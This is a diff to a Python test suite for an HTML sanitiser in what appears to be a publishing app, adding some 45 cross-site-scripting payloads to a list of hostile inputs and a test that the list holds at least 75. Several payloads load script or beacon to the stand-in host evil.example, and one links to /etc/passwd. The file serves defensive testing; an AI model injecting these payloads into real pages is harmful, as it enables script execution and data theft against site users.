@@ -48,6 +48,51 @@ HOSTILE = [
     "<!--><script>alert(1)</script-->",
     "<![CDATA[<script>alert(1)</script>]]>",
     "<p>一\0<script\0>alert(1)</script></p>",
+    "<script/src=data:,alert(1)></script>",
+    "<script\n>alert(1)</script\n>",
+    "<script>alert(1)//",
+    "<script type=module>import 'https://evil.example/x.js'</script>",
+    "<img src='x' onerror='&#97;lert(1)'>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=`x`onerror=alert(1)>",
+    "<img srcset='https://evil.example/a.png 2x'>",
+    "<image href=x onerror=alert(1)>",
+    "<picture><source srcset=x onerror=alert(1)><img src=x></picture>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)><option>一</select>",
+    "<textarea autofocus onfocus=alert(1)>一</textarea>",
+    "<marquee onstart=alert(1)>一</marquee>",
+    "<audio src=x onerror=alert(1)></audio>",
+    "<video poster=javascript:alert(1)></video>",
+    "<track default oncuechange=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe src='data:text/html;base64,PHNjcmlwdD4='></iframe>",
+    "<frameset onload=alert(1)><frame src=x></frameset>",
+    "<embed src=data:image/svg+xml;base64,PHN2Zz4=>",
+    "<object type=text/html data=javascript:alert(1)></object>",
+    "<applet code=x></applet>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
+    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
+    "<math href=javascript:alert(1)>一</math>",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>一</maction></math>",
+    "<form><button formaction=javascript:alert(1)>一</button></form>",
+    "<isindex action=javascript:alert(1) type=submit>",
+    "<a href=' javascript:alert(1)'>x</a>",
+    "<a href='javascript&NewLine;:alert(1)'>x</a>",
+    "<a href='feed:javascript:alert(1)'>x</a>",
+    "<a href='view-source:javascript:alert(1)'>x</a>",
+    "<a href='file:///etc/passwd'>x</a>",
+    "<a href=x ping=https://evil.example>x</a>",
+    "<a href=x style=behavior:url(x.htc)>x</a>",
+    "<p title='x' onpointerenter=alert(1)>一</p>",
+    "<div style='background-image:url(https://evil.example/p.gif)'>一</div>",
+    "<table background=javascript:alert(1)><tr><td>一</table>",
+    "<dialog open onclose=alert(1)>一</dialog>",
+    "<xss onafterscriptexecute=alert(1)>一</xss>",
+    "<plaintext><script>alert(1)</script>",
+    "<title><img src=x onerror=alert(1)></title>",
 ]
 TAGS = {"p", "br", "strong", "em", "ul", "ol", "li", "a"}
 
@@ -117,6 +162,10 @@ def test_publishing_cleans_what_stands_in_the_rows(payload):
     Section.objects.filter(parent=article).update(text=f"<p>正文</p>{payload}")
     edition = editions.publish_article(article, by=None)
     assert wrong_in(edition.content["blocks"][0]["html"]) == []
+
+
+def test_there_are_seventy_five_and_more():
+    assert len(set(HOSTILE)) >= 75
 
 
 def test_every_payload_is_dangerous_if_left_alone():
